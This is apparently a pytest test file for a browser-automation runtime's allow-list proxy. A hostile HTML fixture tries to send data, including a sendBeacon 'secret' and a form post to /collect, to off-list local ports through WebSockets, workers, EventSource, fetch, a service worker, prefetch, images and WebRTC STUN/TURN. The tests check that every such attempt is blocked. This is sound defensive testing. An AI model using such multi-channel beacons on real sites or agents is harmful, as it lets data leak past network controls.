"""Every channel obeys the allow-list (issue 12, item 9): real listeners must hear nothing.

A hostile page on an allowed host tries to reach a TCP listener and a UDP socket on
ports the allow-list does not name, through every channel a page has: WebSockets
(from the page, a worker and a shared worker), EventSource, sendBeacon, fetch, a
service worker, prefetch, an image, a form post, and WebRTC (STUN over UDP, TURN over
TCP). The same page with the listener's port allowed shows the proxy does let allowed
connections through.
"""

from __future__ import annotations

import socket
import threading
import time

import pytest

from cristal.operator import AllowList, Goto, Runtime

HOSTILE = """<html><body><h1>Deals</h1>
<link rel=prefetch href="http://localhost:{L}/prefetch">
<img src="http://localhost:{L}/pixel.png">
<form id=f action="http://localhost:{L}/collect" method=post><input name=d value=x></form>
<script>
const L = {L}, U = {U};
const sinks = ['ws://127.0.0.1:' + L + '/page', 'ws://localhost:' + L + '/page2'];
for (const u of sinks) { try { new WebSocket(u); } catch (e) {} }
try { new EventSource('http://localhost:' + L + '/events'); } catch (e) {}
navigator.sendBeacon('http://127.0.0.1:' + L + '/beacon', 'secret');
fetch('http://localhost:' + L + '/fetch', {mode: 'no-cors'}).catch(() => {});
const job = "new WebSocket('ws://127.0.0.1:" + L + "/worker');" +
  "fetch('http://127.0.0.1:" + L + "/worker-fetch').catch(() => {});";
new Worker(URL.createObjectURL(new Blob([job])));
try { new SharedWorker(URL.createObjectURL(new Blob([job]))); } catch (e) {}
navigator.serviceWorker.register('/sw.js').catch(() => {});
const pc = new RTCPeerConnection({iceServers: [
  {urls: 'stun:127.0.0.1:' + U},
  {urls: 'turn:127.0.0.1:' + L + '?transport=tcp', username: 'u', credential: 'c'}]});
pc.createDataChannel('x');
pc.createOffer().then((o) => pc.setLocalDescription(o));
setTimeout(() => document.getElementById('f').submit(), 300);
</script></body></html>"""
SW = "self.addEventListener('install', () => fetch('http://127.0.0.1:{L}/sw').catch(() => {}));"


class Listener:
    """A TCP listener and a UDP socket on 127.0.0.1 that remember whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.heard: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                self.heard.append(conn.recv(4096))
            except OSError:
                self.heard.append(b"")
            conn.close()

    def datagrams(self) -> list[bytes]:
        out = []
        while True:
            try:
                out.append(self.udp.recv(2048))
            except OSError:
                return out

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener():
    sink = Listener()
    yield sink
    sink.close()


def _visit(browser, site, listener, allow: tuple[str, ...]):
    site.add("/sw.js", SW.replace("{L}", str(listener.port)), "text/javascript")
    page = site.add("/deals", HOSTILE.replace("{L}", str(listener.port))
                    .replace("{U}", str(listener.udp_port)))
    session = browser.new_session(allow=AllowList(hosts=allow))
    runtime = Runtime(session)
    assert runtime.step(Goto(url=page)).ok
    time.sleep(2.5)  # let every channel try (the form posts after 0.3 s)
    return session


def test_no_channel_reaches_a_host_or_port_off_the_allow_list(browser, site, listener):
    session = _visit(browser, site, listener, (f"127.0.0.1:{site.port}",))
    try:
        assert listener.heard == [], listener.heard
        assert listener.datagrams() == []  # no STUN packet either
        refused = {(b.host, b.resource_type) for b in session.blocked}
        assert ("127.0.0.1", "tunnel") in refused  # a WebSocket (or TURN) tunnel, refused
        assert any(b.resource_type in ("image", "fetch", "ping") for b in session.blocked)
    finally:
        session.close()


def test_allowed_connections_still_go_through_the_proxy(browser, site, listener):
    session = _visit(browser, site, listener,
                     (f"127.0.0.1:{site.port}", f"127.0.0.1:{listener.port}"))
    try:
        heard = b"\n".join(listener.heard)
        assert b"GET /page HTTP/1.1" in heard and b"Upgrade: websocket" in heard
        assert b"/worker" in heard  # the worker's WebSocket too
        assert not any(b"/page2" in h for h in listener.heard)  # localhost is still not allowed
    finally:
        session.close()
